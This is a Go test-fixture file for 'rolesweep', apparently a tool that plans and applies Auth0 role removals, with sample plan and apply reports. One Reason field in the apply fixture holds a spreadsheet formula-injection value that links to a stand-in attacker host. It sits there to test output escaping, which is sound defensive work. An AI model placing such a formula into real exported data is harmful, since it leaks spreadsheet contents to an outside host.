package report

import (
	"fmt"
	"time"
)

var (
	fixedStart  = time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC)
	fixedFinish = time.Date(2026, 11, 27, 10, 1, 2, 500_000_000, time.UTC)
)

const inputSHA = "3f2a5d0c9b8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e9c1e"

// smallPlan is a plan checked against a tenant, with every planned action,
// an organization group, a role named only by name, a user named only by
// email and a merged duplicate.
func smallPlan() *Report {
	r := &Report{
		Version:    Version,
		Tool:       "rolesweep v0.1.0",
		Command:    "plan",
		Domain:     "acme.eu.auth0.com",
		Input:      Input{Path: "removals.csv", Format: "csv", SHA256: inputSHA, Rows: 8},
		StartedAt:  fixedStart,
		FinishedAt: fixedStart.Add(2 * time.Second),
		Outcome:    Planned,
		Run: &Run{Operator: "bob@laptop", ClientID: "Xq3v9ZkP0aB7cD2eF5gH8iJ1kL4mN6oP", Checked: true,
			Flags: RunFlags{MaxRemovals: new(500), Reserve: new(20), Protect: []string{"break-glass.csv"}}},
		Summary: Summary{Duplicates: 1, Requests: 6},
		Results: []Result{
			{UserID: "auth0|5f7c8ec7c33c6c004bbafe82", RoleID: "rol_NHBmr6NkzbRcHob1", Status: PlanRemove, Lines: []int{2}, Reason: "2026-Q4 access review CERT-1182"},
			{UserID: "auth0|5f7c8ec7c33c6c004bbafe82", RoleID: "rol_Bq1x7P0aZk3LmN9c", RoleName: "Billing Admin", Status: PlanRemove, Lines: []int{3, 9}, Reason: "2026-Q4 access review CERT-1182"},
			{UserID: "auth0|5f7c8ec7c33c6c004bbafe82", OrganizationID: "org_K2f8GqT1mXa9Lb3P", RoleID: "rol_NHBmr6NkzbRcHob1", Status: PlanAbsent, Lines: []int{4}},
			{UserID: "google-oauth2|108234567890123456789", UserEmail: "jane.doe@acme.com", RoleName: "Support Lead", Status: PlanUnresolved, Error: `no role named "Support Lead"`, Lines: []int{5}, Reason: "left the team"},
			{UserID: "auth0|000000000000000000000dead", RoleID: "rol_NHBmr6NkzbRcHob1", Status: PlanNotFound, Error: "user does not exist", Lines: []int{6}},
			{UserID: "auth0|5f7c8ec7c33c6c004bbafe82", OrganizationID: "org_K2f8GqT1mXa9Lb3P", RoleID: "rol_Bq1x7P0aZk3LmN9c", RoleName: "Billing Admin", Status: PlanRemove, Lines: []int{7}, Reason: "R&D | contractors"},
			{UserEmail: "ghost@acme.com", RoleID: "rol_NHBmr6NkzbRcHob1", Status: PlanUnresolved, Error: `no user with email "ghost@acme.com"`, Lines: []int{8}},
		},
	}
	r.Tally()
	r.PlanDigest = Digest(r)
	return r
}

// applyReport is an apply run interrupted half way, with every result status
// and text that needs escaping in each format.
func applyReport() *Report {
	r := &Report{
		Version:     Version,
		Tool:        "rolesweep v0.1.0",
		Command:     "apply",
		Domain:      "acme.eu.auth0.com",
		Input:       Input{Path: "removals.csv", Format: "csv", SHA256: inputSHA, Rows: 9},
		StartedAt:   fixedStart,
		FinishedAt:  fixedFinish,
		Outcome:     Aborted,
		AbortReason: "interrupted (SIGINT)",
		Run: &Run{Operator: "alice@build-7", ClientID: "Xq3v9ZkP0aB7cD2eF5gH8iJ1kL4mN6oP", Checked: true,
			Flags: RunFlags{MaxRemovals: new(500), Reserve: new(20), Protect: []string{"break-glass.csv"}}},
		Summary: Summary{Duplicates: 0, Requests: 9, Retries: 3, RateLimited: 2},
		Results: []Result{
			{UserID: "auth0|5f7c8ec7c33c6c004bbafe82", RoleID: "rol_NHBmr6NkzbRcHob1", Status: Removed, HTTPStatus: 204, Attempts: 1, Lines: []int{2, 7}, Reason: "2026-Q4 access review"},
			{UserID: "auth0|5f7c8ec7c33c6c004bbafe82", RoleID: "rol_Bq1x7P0aZk3LmN9c", RoleName: "Billing Admin", Status: Removed, HTTPStatus: 204, Attempts: 3, Lines: []int{3}, Reason: "2026-Q4 access review"},
			{UserID: "auth0|62d6dbc216a6e8ed63d17c4f", OrganizationID: "org_K2f8GqT1mXa9Lb3P", RoleID: "rol_NHBmr6NkzbRcHob1", Status: Absent, Lines: []int{4}, Reason: "=HYPERLINK(\"https://evil.example/?\"&A2,\"click\")"},
			{UserID: "auth0|000000000000000000000dead", RoleID: "rol_NHBmr6NkzbRcHob1", Status: NotFound, HTTPStatus: 404, Attempts: 1, Error: "The user does not exist.", Lines: []int{5}, Reason: "line one\nline two | with pipe"},
			{UserID: "samlp|acme|jdoe", RoleID: "rol_Zz9y8X7w6V5u4T3s", Status: Failed, HTTPStatus: 503, Attempts: 4, Error: "503 Service Unavailable after 4 attempts", Lines: []int{6}, Reason: "-urgent"},
			{UserEmail: "ghost@acme.com", RoleID: "rol_NHBmr6NkzbRcHob1", Status: Failed, Error: `no user with email "ghost@acme.com"`, Lines: []int{8}},
			{UserID: "auth0|7a1b2c3d4e5f60718293a4b5", RoleID: "rol_NHBmr6NkzbRcHob1", Status: Skipped, Lines: []int{9}, Reason: "@ops"},
		},
	}
	r.Tally()
	return r
}

// largePlan is an offline plan for 200 users, some in an organization and
// some with two roles: enough to show how the text plan summarises.
func largePlan() *Report {
	r := &Report{
		Version:    Version,
		Tool:       "rolesweep v0.1.0",
		Command:    "plan",
		Input:      Input{Path: "q4-review.yaml", Format: "yaml", SHA256: inputSHA},
		StartedAt:  fixedStart,
		FinishedAt: fixedStart,
		Outcome:    Planned,
		Summary:    Summary{Duplicates: 3},
	}
	line := 2
	for u := 0; u < 200; u++ {
		user := fmt.Sprintf("auth0|%024x", uint64(u)*0x9e3779b97f4a7c15>>8)
		org := ""
		if u%10 == 3 {
			org = "org_K2f8GqT1mXa9Lb3P"
		}
		r.Results = append(r.Results, Result{UserID: user, OrganizationID: org, RoleID: "rol_NHBmr6NkzbRcHob1", Status: PlanRemove, Lines: []int{line}, Reason: "2026-Q4 access review"})
		line++
		if u%4 == 0 {
			r.Results = append(r.Results, Result{UserID: user, OrganizationID: org, RoleName: "Billing Admin", Status: PlanRemove, Lines: []int{line}, Reason: "2026-Q4 access review"})
			line++
		}
	}
	r.Input.Rows = line - 2
	r.Tally()
	r.PlanDigest = Digest(r)
	return r
}

var fixedZone = time.FixedZone("UTC+1", 3600)
